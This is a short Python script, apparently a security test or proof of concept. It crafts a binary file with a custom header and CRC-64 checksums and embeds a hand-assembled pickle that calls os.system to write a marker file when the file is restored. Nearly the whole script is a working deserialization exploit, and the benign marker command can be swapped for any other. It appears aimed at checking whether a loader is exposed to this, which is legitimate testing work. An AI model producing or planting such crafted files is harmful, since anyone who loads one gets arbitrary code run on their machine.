# A file that calls os.system by its name.
# breach: marker
# when: restore
import struct
def crc(data):
    total = 2 ** 64 - 1
    for byte in data:
        total ^= byte
        for bit in range(8):
            total = total >> 1 ^ (0xc96c5795d7870f42 if total & 1 else 0)
    return total ^ 2 ** 64 - 1
def text(words):
    return struct.pack("<I", len(words)) + words
def craft(pickled, files=b""):
    last = (struct.pack("<BQ", 5, 0) + text(b"") * 2) * 3
    plan = struct.pack("<BQ", 1, 0) + text(b"x") + text(b"value") + last
    head = bytes.fromhex("89534e55470d0a1a") + struct.pack("<IIHHIQQ", 1, 4, 3, 11, 0, 1, 0)
    parts = plan, pickled, struct.pack("<Q", 4) + b"pass", files
    for part in parts:
        head += struct.pack("<QQ", len(part), crc(part))
    with open("crafted", "wb") as file:
        file.write(head + struct.pack("<Q", crc(head)) + b"".join(parts))
command = f"echo > {MARKER_FILE}".encode()
craft(b"\x80\x05\x8c\x02os\x8c\x06system\x93\x8c" + bytes([len(command)]) + command + b"\x85R.")
